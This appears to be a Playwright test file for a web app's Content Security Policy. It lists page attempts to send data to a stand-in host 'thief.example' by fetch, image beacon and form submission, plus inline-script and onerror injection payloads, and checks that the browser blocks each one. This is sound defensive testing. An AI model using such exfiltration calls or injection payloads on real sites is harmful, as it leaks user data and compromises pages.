import { expect } from '@playwright/test'
import { SCRIPTS, started, test } from '../support/test'

/** Attempts of a page, by Chromium’s messages for them. */
const refused: [words: RegExp, attempt: string][] = [
  [/connect-src/, 'fetch("https://thief.example/")'],
  [/img-src/, 'new Image().src = "https://thief.example/x.png"'],
  [
    /form-action/,
    `document.body.append(document.createElement("form"))
     Object.assign(document.forms[0], { action: "https://thief.example/" }).submit()`,
  ],
  [/[Pp]ermissions policy/, 'navigator.mediaDevices.getUserMedia({ video: true })'],
]

test('the policy refuses everything that no page needs', async ({ page, violations }) => {
  await page.goto('/about')
  await started(page)
  for (const [words, attempt] of refused) {
    const before = violations.length
    // In the page’s own task, since the policy does not apply to evaluated code.
    await page.evaluate(`setTimeout(() => { ${attempt} })`)
    await expect.poll(() => violations.slice(before).join('\n')).toMatch(words)
  }
  await page.close()
  violations.length = 0
})

test('the policy refuses injected scripts and styles', async ({ page, violations }) => {
  await page.route(SCRIPTS, (route) => route.abort()) // React would remove the injected elements
  await page.route('**/about', async (route) => {
    const response = await route.fetch()
    const injected =
      '<script>hasRun = true</script><img src="" onerror="hasRun = true"><b id="b" style="color: red">'
    const body = (await response.text()).replace('<main', `${injected}$&`)
    await route.fulfill({ response, body })
  })
  await page.goto('/about')
  for (const words of [/inline script/, /event handler/, /inline style/]) {
    await expect.poll(() => violations.join('\n')).toMatch(words)
  }
  expect(await page.evaluate(() => 'hasRun' in window)).toBe(false)
  await expect(page.locator('#b')).not.toHaveCSS('color', 'rgb(255, 0, 0)')
  await page.close()
  violations.length = 0
})
